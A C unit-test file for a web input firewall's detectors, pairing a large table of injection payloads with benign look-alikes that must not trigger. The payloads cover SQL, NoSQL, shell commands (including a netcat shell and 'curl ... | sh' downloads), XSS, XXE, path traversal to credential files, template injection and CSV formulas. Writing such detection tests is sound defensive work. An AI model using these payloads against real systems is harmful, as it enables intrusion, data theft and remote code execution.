/* Unit tests for the input firewall's detectors (policy/payload/detect*.c)
 * and its inspection (firewall.c): a table of values, each with the classes
 * it must raise (0: none), attacks and the benign look-alikes that must not
 * fire; then per-class modes, exceptions and the limit finding. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "policy/payload/firewall.h"

#define B(c) (1u << FNG_FW_##c)

struct dcase {
	const char *v;
	unsigned want;	/* must include these classes; 0: no class at all */
};

static const struct dcase dcases[] = {
	{ "' OR '1'='1", B(SQL) }, { "1' RLIKE (SELECT 1)-- x", B(SQL) }, { "; echo hacked > /tmp/x", B(CMD) },
	{ "the 'is' keyword", 0 }, { "Let's meet at 5pm; bring the docs", 0 }, { "He said \"drop it\" or else", 0 }, { "admin'--", B(SQL) }, { "1 union select 1,2", B(SQL) },
	{ "1; DROP TABLE users", B(SQL) }, { "x'/**/oR/**/1=1#", B(SQL) }, { "1 AND SLEEP(5)", B(SQL) },
	{ "{\"$ne\": 1}", B(NOSQL) }, { "'; return true; var a='", B(NOSQL) },
	{ "; cat /etc/passwd", B(CMD) }, { "$(whoami)", B(CMD) }, { "a|nc 1.2.3.4 9 -e sh", B(CMD) },
	/* the code markers without a syntax character (detect_web.c cd_plain) */
	{ "x' new ProcessBuilder y", B(CODE) }, { "require 'open3' x", B(CODE) }, { "Invoke-Expression x", B(CODE) },
	{ "an ObjectConstructor-x", B(CODE) }, { "rO0ABXNy", B(CODE) }, { "ACED0005 x", B(CODE) },
	{ "{{7*7}}", B(CODE) }, { "${jndi:ldap://x/a}", B(CODE) }, { "__import__('os')", B(CODE) },
	{ "<script>alert(1)</script>", B(XSS) }, { "<svg/onload=alert(1)>", B(XSS) }, { " jav\tascript:alert(1)", B(XSS) },
	{ "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", B(XXE) },
	{ "../../etc/passwd", B(LFI) }, { "php://filter/resource=x", B(LFI) }, { "%2e%2e%2f%2e%2e%2fetc%2fshadow", B(LFI) },
	{ "=HYPERLINK(\"http://x\")", B(CSV) }, { "@SUM(1+1)*cmd|' /C calc'!A0", B(CSV) },
	/* second corpus's mechanisms (own strings): shell words built at run time, unlisted programs */
	{ "a; /u?r/bin/w?oami", B(CMD) }, { "a|{ls,-la,/}", B(CMD) }, { "a&&$'\\x6c\\x73'", B(CMD) },
	{ "q;v=wh;w=oami;$v$w", B(CMD) }, { "1;nmap -p 22 10.0.0.1", B(CMD) }, { "`mytool --dump`", B(CMD) },
	{ "x;${HOME:0:1}bin${HOME:0:1}ls", B(CMD) },
	/* SQL as a lexer reads it; prose after SQL words is not SQL */
	{ "1e1union select null", B(SQL) }, { "\\' or 2>1-- ", B(SQL) }, { "$$ or 1=1--", B(SQL) },
	{ "x';exec('sel'+'ect 2')--", B(SQL) },
	/* outside attack round 7: operand chains a query's quote closes, UNION VALUES; prose stays prose */
	{ "q' OR true OR 'b", B(SQL) }, { "q' OR 2 OR '", B(SQL) }, { "q' OR col OR '", B(SQL) },
	{ "q' OR col GLOB '*", B(SQL) }, { "q' OR ~0 OR '", B(SQL) }, { "q' OR [col] OR '", B(SQL) },
	{ "q' OR CASE WHEN 1 THEN 1 END OR '", B(SQL) }, { "q' OR col NOTNULL OR '", B(SQL) },
	{ "q' UNION VALUES(1,(SELECT 2))--", B(SQL) }, { "q' OR X'62' OR '", B(SQL) },
	{ "3 or more", 0 }, { "Choose 'red' or 'blue' please", 0 }, { "q' or anything else", 0 },
	/* outside attack round 7: a builtin or a bare redirection writing a file */
	{ "v;printf %s \"$HOME\">/tmp/o", B(CMD) }, { "v;>o", B(CMD) }, { "v|>o", B(CMD) }, { "v;true>o", B(CMD) },
	{ "a | > quoted", 0 }, { "a; 5 > 3", 0 }, { "&#39;&#32;&#111;&#114;&#32;&#39;&#97;&#39;&#61;&#39;&#97;", B(SQL) },
	/* paths after normalisation, sensitive by place */
	{ "/etc//shadow", B(LFI) }, { "..%u2216..%u2216boot.ini", B(LFI) }, { "/proc/./self/environ", B(LFI) },
	{ "\\\\10.0.0.9\\c$\\x", B(LFI) }, { "..\xef\xbc\x8f..\xef\xbc\x8f" "etc\xef\xbc\x8f" "group", B(LFI) },
	/* templates and evaluators' own delimiters */
	{ "{{ 3 * 3 }}", B(CODE) }, { "${ '9' * 2 }", B(CODE) }, { "<?= `whoami` ?>", B(CODE) }, { "'.passthru('ls').'", B(CODE) },
	{ "{exec('uname')}", B(CODE) },
	{ "<meta http-equiv=refresh content='1;URL=JaVaScRiPt:alert(2)'>", B(XSS) },
	{ "&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;", B(XSS) },
	{ "<!DOCTYPE r PUBLIC \"-//A//B\" \"http://evil/x.dtd\"><r/>", B(XXE) },
	{ "<xsl:value-of select=\"unparsed-text('/etc/hosts')\"/>", B(XXE) },
	{ "{$where: sleep(50)}", B(NOSQL) },
	{ "= B2*3", B(CSV) }, { "=$C$4-1", B(CSV) }, { "-2+5", B(CSV) }, { "=\tMAX (1,2)", B(CSV) },
	/* benign look-alikes of the second corpus's kinds */
	{ "grep -r foo . | sort", 0 }, { "| name | type |\n|---|---|", 0 }, { "first; second; third", 0 },
	{ "/* comment */", 0 }, { "3 > 2 and 4 < 5, obviously", 0 }, { "she wrote 'group by' twice", 0 },
	{ "<a href=\"#top\">up</a>", 0 }, { "/var/www/site/about.html", 0 }, { "\\\\printsrv\\queue\\a", 0 },
	{ "# we dropped os.popen() here", 0 }, { "{\"$comment\": \"hello\"}", 0 }, { "+1-202-555-0187", 0 },
	{ "-7,5", 0 }, { "if (n > 0 && m < 9) { return true; }", 0 }, { "<pre>if (a &lt; b) { x(); }</pre>", 0 },
	{ "Traceback:\n  File \"m.py\", line 1", 0 }, { "sudo apt-get update && sudo apt-get install -y jq", 0 },
	{ "docker run -v $(pwd):/src img", 0 },
	/* round 10 (issue 16): misses and regressions of the second frozen corpus, own strings */
	{ "|| sleep 10 ||", B(CMD) }, { "||sleep 7||", B(CMD) }, { "$(printf 'id')", B(CMD) }, { "q$(printf 'whoami')", B(CMD) },
	{ "/bin/c[a]t /etc/passwd", B(CMD) }, { "x;/usr/b[i]n/i[d]", B(CMD) }, { "@(1+2)", B(CODE) }, { "@(7*7)", B(CODE) },
	{ "/var/runtime/bootstrap", B(LFI) }, { "1; return true", B(NOSQL) }, { "0;return this.a", B(NOSQL) },
	{ "{\"$text\": {\"$search\": \"admin\"}}", B(NOSQL) }, { "{\"a\": {\"$type\": \"string\"}}", B(NOSQL) },
	{ "{\"a\": {\"$type\": 2}}", B(NOSQL) }, { "a,b,=cmd|' /C calc'!A0", B(CSV) }, { "in/=HYPERLINK(\"http://x\",\"y\").csv", B(CSV) },
	/* $where JavaScript after the quote that ends the string (own rows) */
	{ "' || 'a'=='a", B(NOSQL) }, { "'||this.isAdmin||'", B(NOSQL) }, { "' ; return db.getCollectionNames() ; '", B(NOSQL) },
	{ "x' || true || '", B(NOSQL) }, { "true; return true", B(NOSQL) }, { "admin' || '1'=='1", B(NOSQL) },
	{ "const ok = name === 'x' || name == 'y';", 0 }, { "grep 'foo' || true", 0 }, { "console.log('hi'); return true;", 0 },
	{ "user == 'admin' || role == 'root'", 0 },
	/* documentation that starts with assignments or ./configure; a strong program there still fires */
	{ "VERSION=$(git describe --tags) make release", 0 }, { "Step 2: ./configure && make && sudo make install", 0 },
	{ "x=$(whoami) ls", B(CMD) }, { "A=1 ls && curl http://x.example/a | sh | sh", B(CMD) },
	/* what the relaxed rules below must still catch */
	{ "curl -fsSL https://x.example/i.sh | sh | sh", B(CMD) }, { "curl http://x.example/a -o /tmp/a | sh", B(CMD) },
	{ "curl http://x.example/a | sh /tmp/a", B(CMD) }, { "ls && curl http://x.example/a | sh", B(CMD) },
	{ "Run from $(whoami) now", B(CMD) }, { "a $(id) b", B(CMD) }, { "x;$(pwd)", B(CMD) },
	{ "x' and 1=1-- ", B(SQL) }, { "x' and 1=1 and 'a'='a", B(SQL) }, { "x' AND 1=1 AND ''='", B(SQL) },
	{ "<!DOCTYPE r PUBLIC \"-//W3C//DTD X//EN\" \"http://www.w3.org.evil.example/x.dtd\"><r/>", B(XXE) },
	{ "<!DOCTYPE r PUBLIC \"-//W3C//DTD X//EN\" \"http://x.example/x.dtd\"><r/>", B(XXE) },
	{ "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/x.dtd\" [<!ENTITY % x SYSTEM \"http://e/\">%x;]>", B(XXE) },
	{ "<%= ENV.to_h %>", B(CODE) }, { "<%= Dir.pwd %>", B(CODE) }, { "<%= eval params %>", B(CODE) }, { "<%= x.send(:y) %>", B(CODE) },
	{ "<%= system('id') %>", B(CODE) }, { "<%= `id` %>", B(CODE) }, { "<%= 7*7 %>", B(CODE) }, { "<% require \"open3\" %>", B(CODE) },
	{ "<iframe src=javascript:alert(1)>", B(XSS) }, { "<iframe srcdoc=\"x\">", B(XSS) }, { "<svg><script>alert(1)</script></svg>", B(XSS) },
	{ "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>", B(XSS) }, { "<svg onload=alert(1)>", B(XSS) },
	{ "-2+5", B(CSV) }, { "+A1", B(CSV) },
	/* round 10's false positives (own strings): documentation, .NET keys, prose, HTML an editor carries */
	{ "To install, run: curl -fsSL https://get.example.com | bash", 0 }, { "wget -qO- https://x.example/i.sh | sh -s -- -y", 0 },
	{ "Build it: git clone https://github.com/x/y.git && cd y && make", 0 },
	{ "Run the script from $(pwd) as described in the README.", 0 }, { "docker run --user $(id -u):$(id -g) img", 0 },
	{ "{\"$type\": \"MyApp.Models.User, MyApp\", \"$values\": [1]}", 0 }, { "the prose 'and 1=1' here", 0 }, { "'and 1=1'", 0 },
	{ "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">", 0 },
	{ "<!DOCTYPE html SYSTEM \"about:legacy-compat\">", 0 }, { "Hello <%= user.name %>", 0 }, { "<%= @post.title %>", 0 },
	{ "<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" allowfullscreen></iframe>", 0 },
	{ "<svg width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg>", 0 },
	{ "+s3/A/k7wToAOOSsJTLeRU4qYVk=", 0 }, { "pU4iDVxP7WcwperS8QS4ddzzC3rw88fdfT+p/NCv8hHewzOqy9+JbQ==", 0 },
	{ "Q+zg+zh+vmidqJmvolXjSdzGeNKWqopaTCo0CSU7yFZ+zoq+DZ/Wf55a//sAmEd1", 0 }, { "Step 1; return to the start", 0 },
	{ "https://medium.com/@john (blog)", 0 }, { "mail me @(work)", 0 },
	{ "- NOW() - INTERVAL 1 DAY", 0 }, { "-- NOW() - INTERVAL 1 DAY", 0 }, { "+E817+qWi6vh5nPX/oY2G9QnYUlaTQmy", 0 },
	{ "Users'\n----\nNotes", 0 }, { "+----+------+\n| id | name |\n+----+------+", 0 },
	/* and what stays caught beside them */
	{ "-NOW()", B(CSV) }, { "+SUM(1,2)", B(CSV) }, { "+Sheet1!A1*2", B(CSV) }, { "-(1+2)*3", B(CSV) },
	{ "admin'--\n", B(SQL) }, { "x' --\nOR 1=1--", B(SQL) }, { "a\n| id", B(CMD) }, { "a\n|| id", B(CMD) },
	/* benign look-alikes */
	{ "O'Brien", 0 }, { "It's 5 o'clock; or later?", 0 }, { "The union of two sets", 0 }, { "Tom & Jerry", 0 },
	{ "Please select one and update the list", 0 }, { "Use `ls -la` to list", 0 }, { "<p>Hi <b>there</b></p>", 0 },
	{ "<a href=\"https://example.com\">x</a>", 0 }, { "../images/a.png", 0 }, { "-5 degrees", 0 }, { "@ann", 0 },
	{ "Hello {{name}}", 0 }, { "x<y && y>z", 0 }, { "C:\\Users\\ann\\report.docx", 0 }, { "a=b&c=d", 0 },
	{ "Jones' or Smith's order", 0 }, { "Price: $5 (tax incl.)", 0 }, { "5' 11\" tall", 0 },
	/* outside attack round 10 (fwmiss): SQL comparison operators of every dialect after the query's
	 * quote, a subquery in a numeric context; code calling into scope; any command at an injected
	 * argument's place. Then the look-alikes that stay benign */
	{ "x' IS NOT 'y", B(SQL) }, { "x' GLOB '*", B(SQL) }, { "x' <=> 'x", B(SQL) }, { "x' LIKE '%", B(SQL) },
	{ "x' REGEXP '.*", B(SQL) }, { "x' MATCH 'a", B(SQL) }, { "x' BETWEEN 'a' AND 'z", B(SQL) },
	{ "x' NOT IN ('y')--", B(SQL) }, { "x' SIMILAR TO '%", B(SQL) }, { "x\" IS NOT \"y", B(SQL) },
	{ "(SELECT id FROM users WHERE secret GLOB 'alice-api-t*')", B(SQL) }, { "((select count(*) from t))", B(SQL) },
	{ "1-(SELECT id FROM t WHERE s LIKE 'a%')", B(SQL) }, { "1 IS NOT 2", B(SQL) }, { "2 is not enough", 0 },
	{ "DB.execute('SELECT name, password, secret FROM users').fetchall()", B(CODE) },
	{ "subprocess.getoutput('id')", B(CODE) }, { "JSON.stringify(process.env)", B(CODE) },
	{ "open('/etc/hosts').read()", B(CODE) }, { "str(db.cursor())", B(CODE) }, { "Object.keys(this)", B(CODE) },
	{ "'+conn.execute('DELETE FROM t')+'", B(CODE) }, { "os.getenv('KEY')", B(CODE) },
	{ "; cp a b", B(CMD) }, { "; rm app.py", B(CMD) }, { "; mv a b", B(CMD) }, { "; python3 x.py", B(CMD) },
	{ "; perl x.pl", B(CMD) }, { "&& cp a b", B(CMD) }, { "| tee f", B(CMD) }, { "; cat creds.txt", B(CMD) },
	{ "; touch f", B(CMD) }, { ";pkill node", B(CMD) }, { "x;./run", B(CMD) },
	{ "x' NOTNULL --", B(SQL) }, { "yes; and/or no", 0 },
	/* round 11: an SQL function over a column as a numeric id (a column read blind) */
	{ "glob('??P*',secret)", B(SQL) }, { "instr(secret,'TOPS')", B(SQL) }, { "unicode(secret)-83", B(SQL) },
	{ "abs(length(secret)-12)", B(SQL) }, { "min(3,4)", 0 }, { "length('abc')", 0 },
	{ "count(items) is the number", 0 }, { "Use length(x) to get it", 0 },
	/* round 11: builtins that reach files, the scope or more code without a method call */
	{ "next(open('creds.txt'))", B(CODE) }, { "[*open(__file__)]", B(CODE) }, { "vars()", B(CODE) },
	{ "print(x, file=open('p.txt','w'))", B(CODE) }, { "[*map(exec,['R=1'],[d])]", B(CODE) },
	{ "open", 0 }, { "eval", 0 }, { "Open (24h)", 0 }, { "call open() first", 0 },
	/* a chat line that starts with a separator: an unlisted word there needs an argument naming a file */
	{ "&& then he said no", 0 }, { "||| idk what that means", 0 }, { "; see above", 0 }, { ";killall node", B(CMD) },
	/* a look-ahead past the last of 48 tokens read beyond the token array (found fuzzing; SANITIZE=1 sees it) */
	{ "4' = ((((((((((((((((((((((((((((((((((((((((((((((((((((((5m", 0 }, { "(((((((((((((((((((((((((((((((((((((((((((((((select", 0 }, { "x;shred app.db", B(CMD) }, { "a b; rm app.py", B(CMD) },
	{ "'is'", 0 }, { "(select one from the menu)", 0 }, { "(select all that apply)", 0 }, { "Rock 'n' roll", 0 },
	{ "String.format(\"%s has %d items\", user, count)", 0 }, { "console.log('hi')", 0 }, { "file.txt (copy)", 0 },
	{ "call db.open() first", 0 }, { "https://en.wikipedia.org/wiki/Mercury_(planet)", 0 }, { "Mr.Smith(the one)", 0 },
	{ "Paris;London;Tokyo", 0 }, { "cat;dog", 0 }, { "Q&A", 0 }, { "Traceback:\n  File \"m.py\", line 1", 0 },
};

static void detector_table(void **state)
{
	(void)state;
	bool ok = true;
	for (size_t i = 0; i < sizeof(dcases) / sizeof(dcases[0]); i++) {
		struct fng_fw_hit h[FNG_FW_NCLASS];
		unsigned m = fng_fw_detect(dcases[i].v, strlen(dcases[i].v), FNG_PWALK_VALUE, h);
		bool good = dcases[i].want ? (m & dcases[i].want) == dcases[i].want : m == 0;
		if (!good) {
			fprintf(stderr, "%s: got 0x%x want 0x%x\n", dcases[i].v, m, dcases[i].want);
			ok = false;
		}
	}
	assert_true(ok);
}

struct seen {
	int n;
	char cls[4][32], path[4][64];
};

/* The byte-pair filter never rules out a needle that is there, in any
 * ASCII case on either side, and rules out one that is not. */
static void pair_filter_table(void **state)
{
	static const struct {
		const char *value, *needle;
		bool maybe;
	} t[] = {
		{ "x=string.fromcharcode(60)", "String.fromCharCode(", true },
		{ "X=STRING.FROMCHARCODE(60)", "String.fromCharCode(", true },
		{ "';alert(1)//", "ALERT(", true },
		{ "select 1", "alert(", false },
		{ "\xc3\x80lert(", "alert(", false },
		{ "", "a", true }, /* a one-byte needle has no pair: the search decides */
	};
	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct fng_fw_pairs p;
		fng_fw_pairs(t[i].value, strlen(t[i].value), &p);
		if (fng_fw_maybe(&p, t[i].needle) != t[i].maybe)
			fail_msg("%s in %s: expected %d", t[i].needle, t[i].value, t[i].maybe);
	}
}

static void collect(const struct fng_fw_finding *f, void *arg)
{
	struct seen *s = arg;
	if (s->n < 4) {
		snprintf(s->cls[s->n], sizeof(s->cls[0]), "%s", f->cls);
		snprintf(s->path[s->n], sizeof(s->path[0]), "%s", f->path);
	}
	s->n++;
}

static void inspect_modes_exceptions_limit(void **state)
{
	(void)state;
	struct fng_fw_cfg c;
	struct seen s = { 0 };
	size_t nf;
	const char *ev = "{\"a\": {\"html\": \"<script>x</script>\"}, \"cell\": \"=SUM(A1)\"}";

	fng_fw_cfg_init(&c);
	assert_int_equal(fng_fw_inspect(&c, ev, strlen(ev), collect, &s, &nf), FNG_MODE_BLOCK);
	assert_int_equal(nf, 2);
	/* csv only alerts, the html path is excepted */
	c.mode[FNG_FW_CSV] = FNG_MODE_ALERT;
	char *exc[] = { "$.**.html" };
	c.exceptions = exc;
	c.n_exceptions = 1;
	memset(&s, 0, sizeof(s));
	assert_int_equal(fng_fw_inspect(&c, ev, strlen(ev), collect, &s, &nf), FNG_MODE_ALERT);
	assert_int_equal(nf, 1);
	assert_string_equal(s.cls[0], "csv_injection");
	assert_string_equal(s.path[0], "$.cell");
	c.exceptions = NULL;
	c.n_exceptions = 0;
	/* not JSON: a limit finding under the strongest mode, blocking */
	memset(&s, 0, sizeof(s));
	assert_int_equal(fng_fw_inspect(&c, "not json", 8, collect, &s, &nf), FNG_MODE_BLOCK);
	assert_string_equal(s.cls[0], "limit");
	/* everything allowed: off */
	c.action = FNG_MODE_ALLOW;
	for (int k = 0; k < FNG_FW_NCLASS; k++)
		c.mode[k] = FNG_MODE_ALLOW;
	assert_int_equal(fng_fw_inspect(&c, ev, strlen(ev), collect, &s, &nf), FNG_MODE_ALLOW);
	fng_fw_cfg_free(&c);
}

/* A $type key is judged with its value: a BSON type (an operator that
 * matches by type) or a JSON.NET class name (data), in the proxy's
 * inspection; repeated keys are not remembered clean by their name. */
static void inspect_type_key(void **state)
{
	static const struct {
		const char *ev;
		size_t want;
	} t[] = {
		{ "{\"$type\": \"MyApp.Models.User, MyApp\", \"$values\": [1]}", 0 },
		{ "{\"a\": {\"$type\": \"System.Collections.Generic.List`1[[System.String]], mscorlib\"}}", 0 },
		{ "{\"u\": {\"$type\": \"string\"}, \"p\": {\"$type\": 2}}", 2 },
		{ "{\"x\": {\"$type\": \"A.B, C\"}, \"u\": {\"$type\": \"string\"}}", 1 },
		{ "{\"u\": {\"$type\": [\"string\", \"int\"]}}", 1 },
	};
	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct fng_fw_cfg c;
		struct seen s = { 0 };
		size_t nf;
		fng_fw_cfg_init(&c);
		fng_fw_inspect(&c, t[i].ev, strlen(t[i].ev), collect, &s, &nf);
		if (nf != t[i].want)
			fail_msg("%s: %zu findings, want %zu", t[i].ev, nf, t[i].want);
		fng_fw_cfg_free(&c);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(detector_table),
		cmocka_unit_test(inspect_type_key),
		cmocka_unit_test(pair_filter_table),
		cmocka_unit_test(inspect_modes_exceptions_limit),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
